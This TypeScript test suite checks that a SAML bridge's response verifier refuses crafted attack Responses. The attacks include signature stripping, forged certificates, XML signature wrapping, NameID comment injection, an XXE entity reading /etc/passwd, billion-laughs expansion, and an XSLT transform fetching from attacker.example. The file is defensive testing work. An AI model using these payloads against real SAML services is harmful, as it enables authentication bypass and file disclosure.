/**
 * The attack suite of the bridge's SP side, apart from signature wrapping (own file). Every
 * attack document is built from a valid Response signed by the test upstream key (or by a
 * stranger's key) and must be refused with its specific reason, before the outstanding request
 * id is used up and before the assertion id reaches the replay cache: nothing that could begin
 * a challenge happens.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { StoreReplayCache } from '../../../src/host/replay-cache.js';
import { openStore } from '../../../src/store/store.js';
import type { UpstreamFailureReason, UpstreamResult } from '../../../src/saml/verify-response.js';
import { UPSTREAM_RESPONSE_CHECKS, runUpstreamResponseChecks, verifyUpstreamResponse } from '../../../src/saml/verify-response.js';
import { bridgeFixture, NOW } from './support/fixture.js';
import {
  ALG,
  NS_DS,
  NS_SAML,
  REQUEST_ID,
  edit,
  first,
  makeEvil,
  responseTemplate,
  signWithXmlsec,
  signedResponse,
  validSpec,
  xmlsecAcceptsAssertion,
  type ResponseSpec,
} from './support/upstream-response.js';

const fx = bridgeFixture();
let valid: string;
let bothSigned: string;
beforeAll(async () => {
  valid = await signedResponse(validSpec(NOW), fx.upstream);
  bothSigned = await signedResponse(validSpec(NOW, { signResponse: true }), fx.upstream);
});
afterAll(() => fx.cleanup());
beforeEach(() => fx.reset());

/** Refused with `reason`, with nothing consumed or remembered on the way. */
function expectRefused(result: UpstreamResult, reason: UpstreamFailureReason, detail?: RegExp): void {
  expect(result).toMatchObject({ ok: false, reason });
  if (!result.ok && detail) expect(result.detail).toMatch(detail);
  expect(fx.requests.consumed).toEqual([]);
  expect(fx.replay.entries.size).toBe(0);
}

const signedWith = (overrides: Partial<ResponseSpec>): Promise<string> => signedResponse(validSpec(NOW, overrides), fx.upstream);

describe('signatures', () => {
  it('refuses a Response whose Assertion signature was removed', async () => {
    const stripped = edit(valid, (_doc, root) => {
      const sig = first(first(root, NS_SAML, 'Assertion'), NS_DS, 'Signature');
      (sig.parentNode as typeof root).removeChild(sig);
    });
    expectRefused(await fx.verify(stripped), 'SIGNATURE_MISSING');
  });

  it('refuses an unsigned Assertion inside a signed Response', async () => {
    const xml = await signedWith({ signAssertion: false, signResponse: true });
    expectRefused(await fx.verify(xml), 'SIGNATURE_MISSING', /Assertion is not signed/);
  });

  it('refuses content changed by one character after signing', async () => {
    expectRefused(await fx.verify(valid.replace('alice@example.com<', 'alicf@example.com<')), 'SIGNATURE_INVALID', /digest/);
  });

  it('refuses a Response-level change under a Response signature, even with the Assertion intact', async () => {
    const xml = bothSigned.replace(/IssueInstant="([^"]+)"/, 'IssueInstant="2026-03-02T09:59:59.000Z"');
    expectRefused(await fx.verify(xml), 'SIGNATURE_INVALID', /^Response:/);
  });

  it('refuses a certificate faked through KeyInfo: a stranger signs, and KeyInfo carries the stranger certificate', async () => {
    const forged = await signedResponse(validSpec(NOW, { nameId: 'mallory@example.com' }), fx.stranger);
    expect(forged).toContain(fx.stranger.certPem.split('\n')[1]);
    expectRefused(await fx.verify(forged), 'SIGNATURE_INVALID', /no pinned certificate verifies/);
  });

  it('refuses a stranger signature whose KeyInfo claims the pinned certificate', async () => {
    const forged = await signedResponse(validSpec(NOW, { nameId: 'mallory@example.com' }), fx.stranger);
    const strangerBody = fx.stranger.certPem.replace(/-----[^-]+-----|\s/g, '');
    const pinnedBody = fx.upstream.certPem.replace(/-----[^-]+-----|\s/g, '');
    const claimed = forged.replace(/<ds:X509Certificate>[\s\S]*?<\/ds:X509Certificate>/, `<ds:X509Certificate>${pinnedBody}</ds:X509Certificate>`);
    expect(claimed).not.toContain(strangerBody.slice(0, 40));
    expectRefused(await fx.verify(claimed), 'SIGNATURE_INVALID');
  });

  it('refuses rsa-sha1, even when the pinned key made the signature', async () => {
    const xml = await signedWith({ signatureMethod: ALG.rsaSha1, digestMethod: ALG.sha1 });
    expect(await xmlsecAcceptsAssertion(xml, fx.upstream.certPath)).toBe(true);
    expectRefused(await fx.verify(xml), 'SHA1', /rsa-sha1/);
  });

  it('refuses a SHA-1 digest under an RSA-SHA256 signature', async () => {
    expectRefused(await fx.verify(await signedWith({ digestMethod: ALG.sha1 })), 'SHA1', /digest is SHA-1/);
  });

  it('refuses an XSLT transform in the Reference, before running anything', async () => {
    const xslt =
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">' +
      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">' +
      '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/x\')"/></xsl:template>' +
      '</xsl:stylesheet></ds:Transform>';
    const xml = valid.replace('<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>', `${xslt}$&`);
    expect(xml).toContain('REC-xslt');
    expectRefused(await fx.verify(xml), 'TRANSFORM', /REC-xslt/);
  });

  it('refuses an XPath transform and inclusive C14N', async () => {
    const xpath = valid.replace(
      '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>1</ds:XPath></ds:Transform>',
    );
    expectRefused(await fx.verify(xpath), 'TRANSFORM');
    const inclusive = valid.replace(
      '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
      '<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>',
    );
    expectRefused(await fx.verify(inclusive), 'TRANSFORM');
  });

  it('refuses a Reference that points at another element than the signed Assertion', async () => {
    const spec = validSpec(NOW);
    const xml = (await signedResponse(spec, fx.upstream)).replace(`URI="#${spec.assertionId}"`, `URI="#${spec.responseId}"`);
    expectRefused(await fx.verify(xml), 'WRAPPING', /references/);
  });

  it('refuses duplicate ids: an unsigned copy carrying the signed Assertion id, placed first', async () => {
    const xml = edit(valid, (_doc, root) => {
      const assertion = first(root, NS_SAML, 'Assertion');
      const copy = assertion.cloneNode(true) as typeof assertion;
      const sig = first(copy, NS_DS, 'Signature');
      copy.removeChild(sig);
      makeEvil(copy);
      root.insertBefore(copy, assertion);
    });
    expectRefused(await fx.verify(xml), 'WRAPPING', /duplicate ID/);
  });

  it('refuses duplicate ids anywhere: an Extensions child carrying the Assertion id', async () => {
    const spec = validSpec(NOW);
    const xml = (await signedResponse(spec, fx.upstream)).replace(
      '<samlp:Status>',
      `<samlp:Extensions><x:Note xmlns:x="urn:example" ID="${spec.assertionId}"/></samlp:Extensions><samlp:Status>`,
    );
    expectRefused(await fx.verify(xml), 'WRAPPING', /duplicate ID/);
  });
});

describe('NameID comments and processing instructions', () => {
  // The attacker owns admin@example.com.evil.example; the IdP signs that identity.
  const signedIdentity = 'admin@example.com.evil.example';
  let commented: string;
  beforeAll(async () => {
    const xml = await signedResponse(validSpec(NOW, { nameId: signedIdentity }), fx.upstream);
    commented = xml.replace('admin@example.com.evil.example', 'admin@example.com<!---->.evil.example');
  });

  it('refuses a comment inside NameID, which leaves the signature valid', async () => {
    expect(await xmlsecAcceptsAssertion(commented, fx.upstream.certPath)).toBe(true);
    expectRefused(await fx.verify(commented), 'COMMENT', /comment inside NameID/);
  });

  it('reads the identity as the signature covered it even without the comment check', async () => {
    const withoutCommentCheck = UPSTREAM_RESPONSE_CHECKS.filter((c) => c.name !== 'refuse-comments');
    const result = await runUpstreamResponseChecks(withoutCommentCheck, commented, fx.expectations(), { clock: fx.clock, replay: fx.replay });
    expect(result).toMatchObject({ ok: true, nameId: { value: signedIdentity } });
  });

  it('refuses a processing instruction inside NameID', async () => {
    const xml = (await signedResponse(validSpec(NOW, { nameId: signedIdentity }), fx.upstream)).replace(
      'admin@example.com.evil.example',
      'admin@example.com<?x ?>.evil.example',
    );
    expectRefused(await fx.verify(xml), 'COMMENT', /processing instruction inside NameID/);
  });
});

describe('document type declarations and encodings', () => {
  it('refuses an external entity (XXE)', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${valid.replace(/^<\?xml[^>]*>\s*/, '').replace('alice@example.com<', '&x;<')}`;
    expectRefused(await fx.verify(Buffer.from(xxe).toString('base64')), 'DOCTYPE');
  });

  it('refuses entity expansion (billion laughs)', async () => {
    const lol =
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
    const xml = lol + valid.replace(/^<\?xml[^>]*>\s*/, '').replace('alice@example.com<', '&lol3;<');
    expectRefused(await fx.verify(xml), 'DOCTYPE');
  });

  it('refuses a document that declares another encoding than UTF-8', async () => {
    const utf16 = valid.replace(/^<\?xml[^>]*>/, '<?xml version="1.0" encoding="UTF-16"?>');
    expectRefused(await fx.verify(Buffer.from(utf16).toString('base64')), 'NOT_XML', /UTF-16/);
  });

  it('refuses what is not XML at all', async () => {
    expectRefused(await fx.verify('not base64 at all!'), 'NOT_XML');
    expectRefused(await fx.verify(Buffer.from('hello').toString('base64')), 'NOT_XML');
    expectRefused(await fx.verify('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'), 'NOT_XML');
  });

  it('refuses an encrypted assertion, which the bridge cannot read yet', async () => {
    const xml = valid.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, `<saml:EncryptedAssertion xmlns:saml="${NS_SAML}"/>`);
    expectRefused(await fx.verify(xml), 'ENCRYPTED_UNSUPPORTED');
  });
});

describe('addressing: audience, recipient, destination, issuer', () => {
  it('refuses an assertion for another audience', async () => {
    expectRefused(await fx.verify(await signedWith({ audiences: ['https://other-sp.example.com'] })), 'AUDIENCE');
  });

  it('refuses a bearer confirmation for another recipient', async () => {
    expectRefused(await fx.verify(await signedWith({ recipient: 'https://other-sp.example.com/acs' })), 'RECIPIENT');
  });

  it('refuses a Response for another destination, or with none', async () => {
    expectRefused(await fx.verify(await signedWith({ destination: 'https://other-sp.example.com/acs' })), 'DESTINATION');
    expectRefused(await fx.verify(await signedWith({ destination: null })), 'DESTINATION');
  });

  it('refuses another issuer, on the Assertion or on the Response', async () => {
    const other = 'https://other-idp.example.org';
    expectRefused(await fx.verify(await signedWith({ assertionIssuer: other, responseIssuer: other })), 'ISSUER', /Assertion Issuer/);
    expectRefused(await fx.verify(await signedWith({ responseIssuer: other })), 'ISSUER', /Response Issuer/);
  });
});

describe('time', () => {
  it('refuses an expired assertion (Conditions NotOnOrAfter + skew passed)', async () => {
    fx.clock.set(NOW + 300_000 + 30_000);
    expectRefused(await fx.verify(valid), 'EXPIRED', /Conditions NotOnOrAfter/);
  });

  it('refuses an assertion whose bearer confirmation window has passed', async () => {
    const xml = await signedWith({ confirmationNotOnOrAfter: NOW + 10_000 });
    fx.clock.set(NOW + 40_000);
    expectRefused(await fx.verify(xml), 'EXPIRED', /bearer NotOnOrAfter/);
  });

  it('refuses a not-yet-valid assertion (NotBefore − skew still ahead)', async () => {
    const xml = await signedWith({ issueInstant: NOW - 120_000 });
    fx.clock.set(NOW - 60_000 - 30_001);
    expectRefused(await fx.verify(xml), 'NOT_YET_VALID', /NotBefore/);
  });

  it('takes the skew from the expectations', async () => {
    fx.clock.set(NOW + 300_000);
    expectRefused(await fx.verify(valid, { clockSkewMs: 0 }), 'EXPIRED');
  });
});

describe('InResponseTo', () => {
  it('refuses an unsolicited Response (no InResponseTo)', async () => {
    expectRefused(await fx.verify(await signedWith({ responseInResponseTo: null, confirmationInResponseTo: null })), 'IN_RESPONSE_TO', /unsolicited/);
  });

  it('refuses a Response whose InResponseTo differs from its confirmation', async () => {
    expectRefused(await fx.verify(await signedWith({ responseInResponseTo: '_request-other' })), 'IN_RESPONSE_TO', /differs/);
  });

  it('refuses an InResponseTo we never sent', async () => {
    const xml = await signedWith({ responseInResponseTo: '_never-sent', confirmationInResponseTo: '_never-sent' });
    const result = await fx.verify(xml);
    expect(result).toMatchObject({ ok: false, reason: 'IN_RESPONSE_TO' });
    expect(fx.requests.ids.has(REQUEST_ID)).toBe(true);
  });

  it('refuses a second Response to a request already answered, even a fresh genuine one', async () => {
    expect((await fx.verify(await signedWith({}))).ok).toBe(true);
    const second = await fx.verify(await signedWith({}));
    expect(second).toMatchObject({ ok: false, reason: 'IN_RESPONSE_TO', detail: expect.stringMatching(/already answered/) });
  });
});

describe('status', () => {
  it('refuses a non-Success status even when it carries a valid signed assertion', async () => {
    const xml = await signedWith({ statusCode: 'urn:oasis:names:tc:SAML:2.0:status:Responder' });
    expectRefused(await fx.verify(xml), 'STATUS', /Responder/);
  });
});

describe('replay', () => {
  it('refuses the same Response posted twice', async () => {
    expect((await fx.verify(valid)).ok).toBe(true);
    fx.requests.add(REQUEST_ID);
    expect(await fx.verify(valid)).toMatchObject({ ok: false, reason: 'REPLAY' });
  });

  it("keeps the assertion id under the caller's replay scope; the SAML core names no adapter", async () => {
    const expectations = fx.expectations({ consumeRequestId: () => true });
    expect((await verifyUpstreamResponse(valid, expectations, { clock: fx.clock, replay: fx.replay, replayScope: 'acme-bridge' })).ok).toBe(true);
    expect([...fx.replay.entries.keys()]).toEqual([expect.stringMatching(/^acme-bridge:assertion:https?:\/\/\S+\n/)]);
    // Another caller's scope does not see it; the same caller refuses the second use.
    fx.replay.entries.clear();
    expect((await verifyUpstreamResponse(valid, expectations, { clock: fx.clock, replay: fx.replay })).ok).toBe(true);
    expect([...fx.replay.entries.keys()]).toEqual([expect.stringMatching(/^saml:assertion:/)]);
    expect(await verifyUpstreamResponse(valid, expectations, { clock: fx.clock, replay: fx.replay })).toMatchObject({ ok: false, reason: 'REPLAY' });
  });

  it('refuses a replay on another host sharing the store', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'factorgate-bridge-replay-'));
    const a = await openStore({ driver: 'sqlite', file: join(dir, 'store.db') });
    const b = await openStore({ driver: 'sqlite', file: join(dir, 'store.db') });
    try {
      const hostA = { clock: fx.clock, replay: new StoreReplayCache(a.db, fx.clock) };
      const hostB = { clock: fx.clock, replay: new StoreReplayCache(b.db, fx.clock) };
      const expectations = fx.expectations({ consumeRequestId: () => true });
      expect((await verifyUpstreamResponse(valid, expectations, hostA)).ok).toBe(true);
      expect(await verifyUpstreamResponse(valid, expectations, hostB)).toMatchObject({ ok: false, reason: 'REPLAY' });
    } finally {
      await a.close();
      await b.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('size', () => {
  it('refuses an oversized post before decoding it', async () => {
    const big = await signWithXmlsec(
      responseTemplate(validSpec(NOW, { attributes: { blob: ['x'.repeat(300 * 1024)] } })),
      fx.upstream,
      { assertion: true, response: false },
    );
    expectRefused(await fx.verify(Buffer.from(big).toString('base64')), 'TOO_LARGE');
    expectRefused(await fx.verify(big), 'TOO_LARGE');
  });

  it('takes the limit from the expectations', async () => {
    expectRefused(await fx.verify(valid, { maxBytes: 1024 }), 'TOO_LARGE');
  });
});
